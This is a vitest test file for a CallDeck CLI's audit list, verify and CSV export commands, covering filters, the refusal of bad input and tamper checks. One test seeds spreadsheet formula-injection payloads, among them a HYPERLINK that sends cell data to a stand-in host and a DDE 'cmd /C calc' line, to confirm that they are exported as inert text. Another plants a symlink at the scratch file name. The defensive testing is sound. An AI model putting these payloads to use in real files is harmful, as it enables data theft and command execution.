import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DATA_TOOL } from '../../../src/main/core';
import { seedAuditRows } from '../../helpers/audit-seed';
import { openFolderCore } from '../../helpers/core';
import { runCliInProcess } from '../../helpers/cli-in-process';
import { makeTempDir } from '../../helpers/temp-dir';

/**
 * `calldeck audit list` / `calldeck audit export`: the Audit page's filters, sentences and CSV
 * export of the filtered slice, on a real data folder.
 */

let root: string;
let data: string;
let cleanup: () => void;
beforeEach(async () => {
  ({ dir: root, cleanup } = makeTempDir('calldeck-audit-cli-'));
  data = path.join(root, 'data');
  const core = await openFolderCore(data, { profile: DATA_TOOL });
  await core.invoke('dnc.add', { phones: ['+919800000001', '+919800000002'], note: 'asked, टेलीफोन पर' });
  await core.invoke('settings.update', { section: 'calling', values: { timeZone: 'Mars/Olympus' } });
  await core.invoke('dnc.remove', { phones: ['+919800000002'] });
  await core.stop();
});
afterEach(() => cleanup());

describe('calldeck audit list', () => {
  it('prints the rows newest first as sentences, filtered by action, actor and day', async () => {
    const all = await runCliInProcess(['audit', 'list', '--data', data]);
    expect(all.code, all.stderr).toBe(0);
    const lines = all.stdout.trim().split('\n');
    expect(lines.at(-1)).toBe('3 of 3 matching rows');
    expect(lines[0]).toMatch(
      /^#3 {2}\S+Z {2}tester {2}dnc\.remove {2}ok {2}tester removed 1 number from Do-Not-Call$/,
    );
    expect(lines[1]).toMatch(/ failed {2}refused: tester changed the calling settings: .*timeZone/);

    const added = await runCliInProcess([
      'audit',
      'list',
      '--action',
      'dnc.add',
      '--actor',
      'tester',
      '--data',
      data,
    ]);
    expect(added.stdout).toMatch(/^#1 .* tester added 2 numbers to Do-Not-Call\n1 of 1 matching row\n$/);

    // A day given as --to includes that whole day; one before today holds nothing.
    const today = new Date().toISOString().slice(0, 10);
    const day = await runCliInProcess([
      'audit',
      'list',
      '--from',
      today,
      '--to',
      today,
      '--json',
      '--data',
      data,
    ]);
    expect((JSON.parse(day.stdout) as { total: number }).total).toBe(3);
    const none = await runCliInProcess(['audit', 'list', '--to', '2020-01-01', '--data', data]);
    expect(none.stdout).toBe('0 of 0 matching rows\n');
  });

  it('refuses a bad time and a folder without CallDeck data, naming them', async () => {
    const bad = await runCliInProcess(['audit', 'list', '--from', 'yesterday', '--data', data]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/audit\.list: from: /);
    const missing = await runCliInProcess(['audit', 'list', '--data', path.join(root, 'nope')]);
    expect(missing.stderr).toContain(`No CallDeck data in ${path.join(root, 'nope')}`);
    expect(fs.existsSync(path.join(root, 'nope'))).toBe(false);
  });
});

describe('calldeck audit list on a folder under investigation', () => {
  it('changes nothing: a truncated log with its head file deleted stays as audit verify found it', async () => {
    const db = new Database(path.join(data, 'calldeck.sqlite'));
    db.prepare('DELETE FROM audit_log WHERE seq = 3').run();
    db.close();
    fs.rmSync(path.join(data, 'calldeck.audit-head.json'));
    const before = await runCliInProcess(['audit', 'verify', '--data', data]);
    expect(before.code).toBe(1);
    expect(before.stdout).toMatch(/head file .* is missing/);
    const list = await runCliInProcess(['audit', 'list', '--data', data]);
    expect(list.stdout).toMatch(/\n2 of 2 matching rows\n$/);
    // Not anchored again behind the auditor's back: still missing, still BROKEN, no row added.
    expect(fs.existsSync(path.join(data, 'calldeck.audit-head.json'))).toBe(false);
    expect(await runCliInProcess(['audit', 'verify', '--data', data])).toMatchObject({
      code: 1,
      stdout: before.stdout,
    });
  });
});

describe('calldeck audit export', () => {
  it('writes the filtered slice as CSV to a new --out, and the export is itself audited', async () => {
    const out = path.join(root, 'dnc.csv');
    const r = await runCliInProcess(['audit', 'export', '--subject', 'dnc', '--out', out, '--data', data]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(new RegExp(`^Exported 2 audit rows to ${out} \\(SHA-256 [0-9a-f]{64}\\)\\n$`));
    const text = fs.readFileSync(out, 'utf8');
    // Phone numbers and who did what: this user's only, as a backup's archive.
    if (process.platform !== 'win32') expect(fs.statSync(out).mode & 0o777).toBe(0o600);
    expect(text.startsWith('\ufeff')).toBe(true);
    // trim() drops the BOM too.
    const lines = text.trim().split('\r\n');
    expect(lines[0]).toBe('seq,at,actor,action,subject,outcome,summary,payload,prev_hash,hash');
    expect(lines.slice(1).map((l) => l.split(',')[3])).toEqual(['dnc.remove', 'dnc.add']);
    expect(lines[2]).toContain('टेलीफोन पर');

    const again = await runCliInProcess(['audit', 'export', '--out', out, '--data', data]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain(`${out} exists: choose a new file for the audit export`);
    const list = await runCliInProcess(['audit', 'list', '--action', 'audit.exportCsv', '--data', data]);
    expect(list.stdout).toMatch(/exported audit rows as CSV \(subject dnc\)\n1 of 1 matching row\n$/);
  });

  it('a row whose text a spreadsheet would run (=, +, -, @, tab) is written as text, never as a formula', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"open")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1)',
      '\t=1+1',
    ];
    seedAuditRows(data, path.join(data, 'calldeck.sqlite'), hostile.length, { subject: (i) => hostile[i]! });
    const out = path.join(root, 'hostile.csv');
    const r = await runCliInProcess([
      'audit',
      'export',
      '--action',
      'calls.status',
      '--out',
      out,
      '--data',
      data,
    ]);
    expect(r.code, r.stderr).toBe(0);
    const text = fs.readFileSync(out, 'utf8');
    for (const h of hostile) {
      const quoted = h.includes('"') || h.includes(',') ? `"'${h.replace(/"/g, '""')}"` : `'${h}`;
      expect(text, h).toContain(`,${quoted},`);
    }
  });

  it('never writes through a link planted at its scratch file name: refused, the linked file untouched', async () => {
    const out = path.join(root, 'planted.csv');
    const victim = path.join(root, 'victim.txt');
    fs.writeFileSync(victim, 'mine');
    // The CLI runs in this process here: its scratch name is <out>.<this pid>.tmp.
    fs.symlinkSync(victim, `${out}.${process.pid}.tmp`);
    const r = await runCliInProcess(['audit', 'export', '--out', out, '--data', data]);
    expect(r.code).not.toBe(0);
    expect(fs.readFileSync(victim, 'utf8')).toBe('mine');
    expect(fs.existsSync(out)).toBe(false);
  });
});
